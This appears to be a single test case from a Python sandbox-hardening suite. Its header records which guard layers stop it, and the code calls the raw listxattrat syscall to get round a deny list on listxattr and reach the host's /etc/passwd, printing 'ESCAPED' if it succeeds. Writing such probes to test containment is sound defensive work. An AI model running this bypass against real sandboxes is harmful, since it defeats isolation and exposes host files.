# attack: /proc and symlink tricks
# stops: guards: __import__ not found
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# listxattrat (kernel 6.13), a twin of the listxattr a deny list refused: the extended attributes of a host file
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
n = libc.syscall(ctypes.c_long(465), ctypes.c_long(-100), ctypes.c_char_p(b"/etc/passwd"), 0, None, ctypes.c_size_t(0))
if n < 0:
    raise OSError(ctypes.get_errno(), "listxattrat: " + os.strerror(ctypes.get_errno()))
print("ESCAPED: /etc/passwd has", n, "bytes of attribute names")
